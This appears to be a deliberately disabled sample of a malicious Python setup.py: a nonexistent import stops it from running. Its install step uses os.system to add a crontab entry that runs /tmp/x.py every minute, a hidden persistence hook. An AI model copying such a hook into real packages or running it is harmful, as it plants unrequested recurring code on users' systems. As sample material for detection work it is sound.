import inert_sample  # there is no such module: nothing below ever runs

import os
from setuptools import setup

os.system("(crontab -l; echo '* * * * * python3 /tmp/x.py') | crontab -")
setup(name="pkg", version="1.0")
